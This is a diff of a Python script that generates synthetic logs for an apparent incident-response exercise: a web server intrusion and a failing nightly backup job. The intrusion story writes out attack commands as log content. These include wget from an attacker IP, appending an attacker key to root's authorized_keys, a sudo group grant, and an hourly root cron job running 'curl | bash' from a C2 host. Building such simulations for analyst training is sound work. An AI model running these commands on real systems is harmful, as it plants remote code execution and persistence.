+            tt += timedelta(seconds=19.3)
+            mpid = pids.at(tt)
+            WEB_AUTH.add(tt, f"usermod[{mpid}]", "add 'sysupdate' to group 'sudo'")
+            WEB_AUTH.add(tt, f"usermod[{mpid}]", "add 'sysupdate' to shadow group 'sudo'")
+            tt += timedelta(seconds=40.6)
+            cpid = pids.at(tt)
+            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) BEGIN EDIT (root)")
+            tt += timedelta(seconds=22.1)
+            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) REPLACE (root)")
+            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) END EDIT (root)")
+            STORY_LINUX["crontab"] = (tt, tt)
+            # the dropped binary phones home
+            conn(tt + timedelta(seconds=48), IP["web01"], rng.randint(40000, 60000), C2, 443, "tcp", "-",
+                 1800.2, 48_211, 301_877, history="ShADadfF")
+            reload_t = tt.replace(second=1, microsecond=0) + timedelta(minutes=1)
+            WEB_SYS.add(reload_t, f"cron[{CRON_D}]", "(root) RELOAD (crontabs/root)")
+            WEB_AUTH.add(tt + timedelta(seconds=96.5), "sudo", "pam_unix(sudo:session): session closed for user root")
+
+    _, port = ssh_session(pids, rng, t0, "deploy", 1001, A, "password", 402.0, sess, [
+        (47.3, "/home/deploy", "/usr/bin/id"),
+        (98.6, "/home/deploy", "/usr/bin/wget http://198.51.100.23/x -O /tmp/.x"),
+        (131.0, "/home/deploy", f"/bin/bash -c echo {ATTACKER_KEY} >> /root/.ssh/authorized_keys"),
+        (163.9, "/home/deploy", "/bin/bash"),
+    ], between=during)
+    STORY_LINUX["web01-intrusion"] = (t_first, t0 + timedelta(seconds=402.0))
+    # hourly persistence until the end of the capture: curl | bash from the C2 (T1053.003, T1105)
+    t = at(TUE, 3, 7, 1.0)
+    first_cron = t
+    while t <= WEEK_END:
+        cron_job(WEB_AUTH, WEB_SYS, pids, t, "root", 0, "curl -s http://198.51.100.23/u.sh | bash",
+                 rng.uniform(0.4, 1.5))
+        conn(t + timedelta(seconds=0.1), IP["web01"], rng.randint(40000, 60000), C2, 80, "tcp", "http",
+             rng.uniform(0.15, 0.6), 86, rng.randint(300, 420))
+        t += timedelta(hours=1)
+    # Wednesday 01:12 the attacker comes back as root with the planted key (T1098.004, T1078)
+    t = at(WED, 1, 12, 33.0)
+    ssh_session(pids, rng, t, "root", 0, A, "publickey", 312.0, next_session(),
+                key_fp="RSA SHA256:3nVv2vYbq0a9oQ6wqXc1bWm8y5kP7e2GZsJrT4hLdUw")
+    STORY_LINUX["web01-root-return"] = (t, t + timedelta(seconds=312.0))
+    STORY_LINUX["web01-cron"] = (first_cron, WEEK_END)
+    del t_web_end
+
+
+# --------------------------------------------------------------------------------------------
+# BACKUP01 (Linux) syslog: the nightly backup job, failing on Monday (svc_backup story)
+# --------------------------------------------------------------------------------------------
+
+def backup01() -> None:
+    rng = rstream("backup01")
+    pids = Pids(91_000, 1 / 15, rng)
+    linux_daily(BK_SYS, None, pids, rng, 388)
+    uptime0 = datetime(2026, 2, 27, 9, 41, 2, tzinfo=UTC)  # kernel uptime base for [..] stamps
+
+    def kstamp(t: datetime) -> str:
+        up = (t - uptime0).total_seconds()
+        return f"[{up:12.6f}]"
+
+    # Monday 19:00: the job starts; every attempt fails because the stored password is stale
+    start = at(MON, 19, 0, 1.0)
+    cpid = pids.at(start)
+    BK_SYS.add(start, f"CRON[{cpid}]", "(root) CMD (/usr/local/bin/backup.sh nightly)")
+    bpid = pids.at(start)
+    tag = f"backup.sh[{bpid}]"
+    BK_SYS.add(start + timedelta(seconds=0.6), tag, "starting nightly backup of //FS01/shares to /srv/backup/fs01")
+    for t, n in BACKUP_FAILS:
+        BK_SYS.add(t + timedelta(seconds=0.02), tag,
+                   "kinit: Preauthentication failed while getting initial credentials")
+        t2 = t + timedelta(seconds=0.3)
+        if n == 1 or n % 10 == 0:
+            BK_SYS.add(t2, "kernel", f"{kstamp(t2)} CIFS: VFS: \\\\FS01 Send error in SessSetup = -13")
+            BK_SYS.add(t2, "kernel", f"{kstamp(t2)} CIFS: VFS: cifs_mount failed w/return code = -13")
+            BK_SYS.add(t2, tag, "mount error(13): Permission denied")
+            BK_SYS.add(t2, tag, "Refer to the mount.cifs(8) manual page (e.g. man mount.cifs) and kernel log "
+                                "messages (dmesg)")
+        else:
+            BK_SYS.add(t2, tag, "smbclient //FS01/shares -A /etc/backup/fs01.cred: session setup failed: "
+                                "NT_STATUS_LOGON_FAILURE")
+        nxt = [x for x, m in BACKUP_FAILS if m == n + 1]
+        if nxt:
+            wait = int(round((nxt[0] - t).total_seconds()))
+            BK_SYS.add(t2 + timedelta(seconds=0.01), tag, f"attempt {n} failed, retrying in {wait}s")
+    t_last = BACKUP_FAILS[-1][0] + timedelta(seconds=0.5)
+    BK_SYS.add(t_last, tag, f"giving up after {len(BACKUP_FAILS)} attempts: nightly backup FAILED")
+    BK_SYS.add(t_last + timedelta(seconds=0.1), f"CRON[{cpid}]", "(CRON) info (No MTA installed, discarding output)")
+    # Tuesday 09:2x: an admin logs in, fixes /etc/backup/fs01.cred and runs a test
+    t = at(TUE, 9, 21, 48.0)
+    BK_SYS.add(t, "systemd[1]", "Started Session 12 of user it_admin.")
+    conn(t - timedelta(seconds=0.5), IP["admin"], rng.randint(40000, 60000), IP["BACKUP01"], 22, "tcp", "ssh",
+         402.0, 9_310, 41_877)
+    for i, (t_run, dur) in enumerate(BACKUP_OK):
+        if i == 0:
+            p = pids.at(t_run)
+            BK_SYS.add(t_run, f"backup.sh[{p}]", "manual run (--test): mounted //FS01/shares on /mnt/fs01 (sec=krb5)")
+            BK_SYS.add(t_run + timedelta(seconds=dur), f"backup.sh[{p}]", "test OK, unmounted /mnt/fs01")
+        else:
+            cp = pids.at(t_run - timedelta(seconds=1))
+            BK_SYS.add(t_run - timedelta(seconds=1), f"CRON[{cp}]", "(root) CMD (/usr/local/bin/backup.sh nightly)")
+            p = pids.at(t_run)
+            tg = f"backup.sh[{p}]"
+            BK_SYS.add(t_run - timedelta(seconds=0.4), tg, "starting nightly backup of //FS01/shares to /srv/backup/fs01")
+            BK_SYS.add(t_run + timedelta(seconds=0.3), tg, "mounted //FS01/shares on /mnt/fs01 (sec=krb5)")
+            files = rng.randint(900, 2400)
+            gib = rng.uniform(1.7, 2.5)
+            BK_SYS.add(t_run + timedelta(seconds=dur), tg,
+                       f"rsync finished: {files} files, {gib:.1f} GiB in {int(dur // 60)}m{int(dur % 60):02d}s")
+            BK_SYS.add(t_run + timedelta(seconds=dur + 0.4), tg, "nightly backup OK, unmounted /mnt/fs01")
+    BK_SYS.add(at(TUE, 9, 28, 30.0), "systemd[1]", "session-12.scope: Succeeded.")
+
+
+def linux_all() -> None:
+    pids = Pids(210_000, 1 / 12, rstream("web01-pids"))
+    web01_background(pids)
+    web_background()
+    story_web01(pids)
+    backup01()
+
+
+# --------------------------------------------------------------------------------------------
 # main
 # --------------------------------------------------------------------------------------------
 
@@ -1247,9 +1771,18 @@ def main() -> None:
     story_svc_backup_windows()
     story_clock_skew()
     story_vendor_task()
+    linux_all()
     counts = {}
     for h in WINHOSTS:
         counts[f"windows/{h.name}.jsonl"] = h.write(out("windows", f"{h.name}.jsonl"))
+    counts["linux/web01-auth.log"] = WEB_AUTH.write(out("linux", "web01-auth.log"))
+    counts["linux/web01-syslog"] = WEB_SYS.write(out("linux", "web01-syslog"))
+    counts["linux/backup01-syslog"] = BK_SYS.write(out("linux", "backup01-syslog"))
+    ACCESS.sort(key=lambda x: (x[0].replace(microsecond=0), x[1]))
+    with open(out("web", "access.log"), "w", encoding="utf-8", newline="\n") as fh:
+        for _, _, line in ACCESS:
+            fh.write(line + "\n")
+    counts["web/access.log"] = len(ACCESS)
     counts["network/conn.log"] = write_zeek(out("network", "conn.log"))
     for k, v in counts.items():
         print(f"{v:6d}  {k}")
